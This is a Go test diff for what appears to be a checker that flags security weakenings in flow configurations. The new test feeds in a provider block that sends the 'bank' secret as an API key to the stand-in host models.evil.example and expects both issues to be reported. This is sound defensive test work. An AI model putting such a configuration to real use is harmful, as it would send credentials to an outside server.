@@ -176,6 +176,15 @@ func TestWeakeningsHTTPHosts(t *testing.T) {
 	weakenedAs(t, weakened(t, `url        = "https://bank.example.com/v1/pay"`, `url        = "https://BANK.example.com/v2/pay/${input.amount}"`))
 }
 
+// TestWeakeningsProvider: a provider added to a flow is a new host, and
+// its api_key a new use of the secret: a proposal that sends a key to
+// another server says so.
+func TestWeakeningsProvider(t *testing.T) {
+	weakenedAs(t, weakened(t, `secret "bank" {}`, "secret \"bank\" {}\n\nprovider \"x\" {\n  base_url = \"https://models.evil.example/v1\"\n  api_key  = secret.bank\n}"),
+		[3]string{WeakHTTPHosts, `provider "x"`, `connects to models.evil.example`},
+		[3]string{WeakSecret, `provider "x"`, `uses secret "bank"`})
+}
+
 func TestWeakeningsSecret(t *testing.T) {
 	weakenedAs(t, weakened(t, `value      = "paid"`, `value      = sha256(secret.bank)`),
 		[3]string{WeakSecret, `step "receipt"`, `Step "receipt" uses secret "bank", which it did not`})
